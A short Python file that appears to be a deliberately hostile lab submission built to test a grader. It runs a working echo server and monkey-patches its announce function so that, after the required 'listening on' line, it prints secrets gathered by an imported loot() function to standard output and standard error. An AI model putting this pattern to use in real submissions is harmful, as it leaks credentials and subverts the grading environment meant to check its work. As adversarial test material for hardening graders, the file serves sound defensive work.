"""Hostile lab 01 submission: a correct echo server that, at each start,
reads every secret it can find and prints it (standard output, after the
`listening on` line, and standard error), hoping the grader shows it."""

import sys

import echo_server
from reads_secret_loot import loot

secrets = loot()
original_announce = echo_server.announce


def announce_and_leak(listener):
    original_announce(listener)  # the contract: this line first; anything after it is allowed
    print(secrets, flush=True)
    print(secrets, file=sys.stderr, flush=True)


echo_server.announce = announce_and_leak
echo_server.main()
